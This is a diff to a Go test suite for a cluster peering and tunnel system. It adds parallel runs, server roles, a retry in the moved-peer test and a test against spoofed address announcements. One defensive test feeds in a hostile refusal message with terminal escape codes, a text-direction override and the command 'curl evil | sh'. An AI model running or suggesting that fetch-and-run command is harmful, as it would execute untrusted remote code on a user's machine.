@@ -10,18 +10,21 @@ import (
 	"net"
 	"net/http"
 	"net/netip"
+	"slices"
 	"strings"
 	"testing"
 	"time"
 
 	"rivulet/fabric/discovery"
 	"rivulet/fabric/discovery/static"
+	"rivulet/fabric/httpserver"
 	"rivulet/fabric/pairing"
 	"rivulet/fabric/peer"
 	"rivulet/fabric/rpc"
 )
 
 func TestThreeClustersPeerByThemselves(t *testing.T) {
+	t.Parallel()
 	w := newWorld(t)
 	all := []*cluster{w.cluster(1, "a"), w.cluster(2, "b"), w.cluster(3, "c")}
 	for _, c := range all {
@@ -53,6 +56,7 @@ func TestThreeClustersPeerByThemselves(t *testing.T) {
 }
 
 func TestRoutesAreForPeersInsideTheTunnel(t *testing.T) {
+	t.Parallel()
 	w := newWorld(t)
 	a, b := w.cluster(1, "a"), w.cluster(2, "b")
 	b.Handle("GET /v1/whoami", http.NotFoundHandler()) // of a component that has started again since
@@ -112,6 +116,7 @@ func TestRoutesAreForPeersInsideTheTunnel(t *testing.T) {
 
 // After a restart the tunnel stands before anybody is discovered.
 func TestRestartNeedsNoDiscovery(t *testing.T) {
+	t.Parallel()
 	w := newWorld(t)
 	a, b := w.cluster(1, "a"), w.cluster(2, "b")
 	before := a.awaitState(b, peer.Connected)
@@ -132,6 +137,7 @@ func TestRestartNeedsNoDiscovery(t *testing.T) {
 }
 
 func TestLostAndBack(t *testing.T) {
+	t.Parallel()
 	w := newWorld(t)
 	a, b := w.cluster(1, "a"), w.cluster(2, "b")
 	a.awaitState(b, peer.Connected)
@@ -156,13 +162,20 @@ func TestLostAndBack(t *testing.T) {
 
 // DHCP gives b another address: a hears of it, makes sure, and moves the endpoint.
 func TestMovedPeer(t *testing.T) {
+	t.Parallel()
 	w := newWorld(t)
 	a, b := w.cluster(1, "a"), w.cluster(2, "b")
 	before := a.awaitState(b, peer.Connected)
 	moved := netip.MustParseAddr("127.0.0.77")
 	entry := discovery.Entry{Key: string(b.cfg.Identity.ID), ID: b.cfg.Identity.ID, Name: "b", Addrs: []netip.AddrPort{netip.AddrPortFrom(moved, b.cfg.Port)}}
 	w.hub.Set(entry)
+	told := time.Now()
 	a.await("new endpoint", func() bool {
+		if time.Since(told) > pairing.Grace+time.Second { // b answers at both: on a busy machine the old one may be first
+			told = time.Now()
+			entry.TXT = map[string]string{"told": told.String()}
+			w.hub.Set(entry)
+		}
 		cfg := a.plane.config()
 		return len(cfg.Peers) == 1 && cfg.Peers[0].Endpoint.Addr() == moved
 	})
@@ -188,6 +201,7 @@ func TestMovedPeer(t *testing.T) {
 }
 
 func TestTunnelHelperStartsAnew(t *testing.T) {
+	t.Parallel()
 	w := newWorld(t)
 	a, b := w.cluster(1, "a", func(c *Config) { c.Leased = true }), w.cluster(2, "b")
 	a.awaitState(b, peer.Connected)
@@ -205,6 +219,7 @@ func TestTunnelHelperStartsAnew(t *testing.T) {
 }
 
 func TestSecondClusterWithTheSameName(t *testing.T) {
+	t.Parallel()
 	w := newWorld(t)
 	a, b, c := w.cluster(1, "a"), w.cluster(2, "pi"), w.cluster(3, "pi")
 	for _, o := range []*cluster{b, c} {
@@ -218,6 +233,7 @@ func TestSecondClusterWithTheSameName(t *testing.T) {
 }
 
 func TestClonedIdentity(t *testing.T) {
+	t.Parallel()
 	w := newWorld(t)
 	a := w.cluster(1, "a")
 	clone := w.cluster(1, "a")
@@ -236,6 +252,7 @@ func TestClonedIdentity(t *testing.T) {
 // A peer that speaks another protocol or garbage is shown with a reason, and does
 // not keep others from peering.
 func TestStrangeNeighbours(t *testing.T) {
+	t.Parallel()
 	w := newWorld(t)
 	for name, answer := range map[string]string{"future": `{"versions":[99],"id":{"new":"form"}}`, "garbage": `<html>`, "liar": `{"versions":[1],"id":"x"}`} {
 		key := newKey(name[0])
@@ -244,7 +261,7 @@ func TestStrangeNeighbours(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		s := rpc.NewServer(id, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, answer) }), w.cluster(name[0]+100, "x"+name).cfg.Log)
+		s := rpc.NewServer(httpserver.Strangers, id, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, answer) }), w.cluster(name[0]+100, "x"+name).cfg.Log)
 		go s.ServeTLS(l, "", "")
 		t.Cleanup(func() { s.Close() })
 		w.hub.Set(discovery.Entry{Key: string(id.ID), ID: id.ID, Name: name, Addrs: []netip.AddrPort{l.Addr().(*net.TCPAddr).AddrPort()}})
@@ -279,6 +296,7 @@ func TestNameOfARefusedMessage(t *testing.T) {
 
 // A stranger refuses us with words for a terminal: our own are shown, by its code.
 func TestRefusalIsInOurOwnWords(t *testing.T) {
+	t.Parallel()
 	w := newWorld(t)
 	a := w.cluster(1, "a")
 	for code, want := range map[string]string{"pending": "rivulet approve a", "of-tomorrow": "in its own words", "evil\x1b[2J": "unknown"} {
@@ -287,7 +305,7 @@ func TestRefusalIsInOurOwnWords(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		s := rpc.NewServer(id, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		s := rpc.NewServer(httpserver.Strangers, id, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 			rpc.Fail(w, http.StatusForbidden, &rpc.Error{Code: code, Message: "run\x1b[31m this\u202e:", Cure: "curl evil | sh"})
 		}), a.cfg.Log)
 		go s.ServeTLS(l, "", "")
@@ -301,6 +319,7 @@ func TestRefusalIsInOurOwnWords(t *testing.T) {
 }
 
 func TestStrangerFromElsewhere(t *testing.T) {
+	t.Parallel()
 	w := newWorld(t)
 	a := w.cluster(1, "a", func(c *Config) { c.OnLink = func(netip.Addr) bool { return false } })
 	b := w.cluster(2, "b")
@@ -315,6 +334,7 @@ func TestStrangerFromElsewhere(t *testing.T) {
 }
 
 func TestStaticAddress(t *testing.T) {
+	t.Parallel()
 	w := newWorld(t)
 	b := w.cluster(2, "b", func(c *Config) { c.Sources = nil })
 	source := static.New(netip.AddrPortFrom(onLAN, b.cfg.Port))
@@ -329,6 +349,7 @@ func TestStaticAddress(t *testing.T) {
 }
 
 func TestPortTakenAndDiskFull(t *testing.T) {
+	t.Parallel()
 	w := newWorld(t)
 	taken, err := net.Listen("tcp", ":0")
 	if err != nil {
@@ -354,6 +375,7 @@ func TestPortTakenAndDiskFull(t *testing.T) {
 }
 
 func TestGoodbye(t *testing.T) {
+	t.Parallel()
 	w := newWorld(t)
 	a, b := w.cluster(1, "a"), w.cluster(2, "b", func(c *Config) { c.OnLink = func(netip.Addr) bool { return false } })
 	a.await("b", func() bool { return a.view(b).State != "" })
@@ -377,4 +399,42 @@ func newKey(n byte) ed25519.PrivateKey {
 	seed := make([]byte, 32)
 	seed[0] = n
 	return ed25519.NewKeyFromSeed(seed)
+}
+
+// Who announces a peer at many addresses where nothing answers neither keeps this cluster from exchanges with it, nor has
+// more than a few tried, by TCP and by the tunnel.
+func TestASpoofedAnnouncementCutsNothingOff(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	a, b := w.cluster(1, "a"), w.cluster(2, "b")
+	a.awaitState(b, peer.Connected)
+	silent, err := net.Listen("tcp", "0.0.0.0:0") // the kernel accepts, and nobody answers
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { silent.Close() })
+	port := netip.MustParseAddrPort(silent.Addr().String()).Port()
+	spoofed := discovery.Entry{Key: string(b.id()), ID: b.id(), Name: "b"}
+	for i := range 100 {
+		spoofed.Addrs = append(spoofed.Addrs, netip.AddrPortFrom(netip.AddrFrom4([4]byte{127, 0, 9, byte(i)}), port))
+	}
+	since := time.Now()
+	w.hub.Set(spoofed)
+	a.await("an exchange", func() bool {
+		a.members.mu.Lock()
+		defer a.members.mu.Unlock()
+		return a.members.byID(b.id()).LastExchange().After(since)
+	})
+	if took := time.Since(since); took > pairing.Grace+15*time.Second { // each of a hundred takes 2 s
+		t.Errorf("the exchange took %s: it waited for addresses that do not answer", took)
+	}
+	a.await("the tunnel's configuration", func() bool {
+		cfg := a.plane.config()
+		return len(cfg.Paths) == 1 && len(cfg.Paths[0].AnnouncedUDP) > 0
+	})
+	for _, p := range a.plane.config().Paths {
+		if len(p.AnnouncedUDP) > 2*discovery.MaxAddrs || slices.ContainsFunc(p.UDP, func(at netip.AddrPort) bool { return at.Addr() != onLAN }) {
+			t.Errorf("announced %v, known %v", p.AnnouncedUDP, p.UDP)
+		}
+	}
 }
